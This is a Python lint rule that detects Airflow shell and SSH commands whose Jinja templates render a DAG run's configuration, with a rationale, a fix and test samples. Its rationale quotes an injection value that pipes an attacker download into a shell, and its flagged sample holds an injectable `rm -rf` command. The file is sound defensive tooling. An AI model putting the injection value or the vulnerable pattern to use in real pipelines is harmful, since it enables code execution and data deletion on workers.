"""Airflow shell commands whose Jinja template renders the configuration a DAG run was triggered with."""

import re

import libcst as cst
from guidelint.cst import Context, Rule, RuleMeta, arg, module_constant

# the operators that run their templated command in a shell (locally, or on a host over SSH), and the
# argument that holds the command
OPERATORS = {
    "airflow.operators.bash.BashOperator": "bash_command",
    "airflow.operators.bash_operator.BashOperator": "bash_command",
    "airflow.providers.standard.operators.bash.BashOperator": "bash_command",
    "airflow.providers.ssh.operators.ssh.SSHOperator": "command",
    "airflow.contrib.operators.ssh_operator.SSHOperator": "command",
}
# a Jinja expression or statement that reads the run's configuration: `{{ dag_run.conf['model'] }}`,
# `{{ dag_run.conf.get("day") }}`, `{% for t in dag_run.conf.tables %}` (not `{{ ds }}`, `{{ params.x }}`)
CONF = re.compile(r"\{[{%][^}]*?\bdag_run\s*\.\s*conf\b")


class AirflowTemplatedCommand(Rule):
    meta = RuleMeta.of(
        id="INP159",
        clause="SG-5.2",
        title="Airflow shell command templated from a DAG run's configuration",
        severity="high",
        confidence="high",
        cwe=[78],
        owasp="A03:2021-Injection",
        message="{operator}'s {keyword} renders dag_run.conf into a shell command",
        rationale=(
            "Airflow renders an operator's command as a Jinja template and runs the result in a shell "
            "(BashOperator) or on a remote host (SSHOperator). dag_run.conf is the JSON given when the run "
            "was triggered: by anyone allowed to trigger the DAG through the REST API or the UI's 'trigger "
            "with config', or by another DAG. Jinja does not quote for the shell, so a value such as "
            "`x; curl attacker | sh` runs with the worker's credentials to the warehouse, the buckets and the "
            "secrets backend. Run dates ({{ ds }}) and the DAG's own constants are not reported."
        ),
        remediation=(
            "Read the configuration in Python (a @task or PythonOperator), check it against an allow-list or "
            "a pattern, and run the tool with an argument list (subprocess.run(['dbt', 'run', '--select', "
            'model])); or pass the value through the operator\'s env= and quote it in the script ("$MODEL").'
        ),
        references=(
            "https://airflow.apache.org/docs/apache-airflow/stable/howto/operator/bash.html",
            "https://airflow.apache.org/docs/apache-airflow/stable/security/security_model.html",
        ),
    )
    calls = tuple(OPERATORS)
    needles = ("dag_run",)

    def check_call(self, call: cst.Call, name: str, ctx: Context) -> None:
        keyword = OPERATORS[name]
        command = arg(call, keyword)
        if command is None:
            return
        text = module_constant(ctx, command.value)
        if not isinstance(text, str):
            text = ctx.code(command.value)  # an f-string or a concatenation: its written parts
        if CONF.search(text):
            operator = name.rsplit(".", 1)[-1]
            ctx.report(command, self.meta.message.format(operator=operator, keyword=keyword))

    flagged = """
        from airflow.operators.bash import BashOperator
        from airflow.providers.ssh.operators.ssh import SSHOperator

        BACKFILL = "dbt run --select {{ dag_run.conf.get('model', 'orders') }} --target prod"

        def tasks():
            rebuild = BashOperator(
                task_id="rebuild",
                bash_command="dbt run --select {{ dag_run.conf['model'] }} --target prod",  # expect
            )
            backfill = BashOperator(task_id="backfill", bash_command=BACKFILL)  # expect
            purge = SSHOperator(
                task_id="purge",
                ssh_conn_id="etl_host",
                command="rm -rf /data/{% for t in dag_run.conf.tables %}{{ t }} {% endfor %}",  # expect
            )
            return rebuild, backfill, purge
    """
    safe = """
        from airflow.operators.bash import BashOperator
        from airflow.providers.ssh.operators.ssh import SSHOperator

        def tasks():
            build = BashOperator(
                task_id="dbt_build",
                bash_command="dbt build --target prod --vars '{\\"run_date\\": \\"{{ ds }}\\"}'",
            )
            model = BashOperator(
                task_id="model",
                bash_command='dbt run --select "$MODEL"',
                env={"MODEL": "{{ ti.xcom_pull(task_ids='pick_model') }}"},
            )
            purge = SSHOperator(
                task_id="purge", ssh_conn_id="etl_host", command="find /data -mtime +{{ params.days }} -delete"
            )
            return build, model, purge
    """
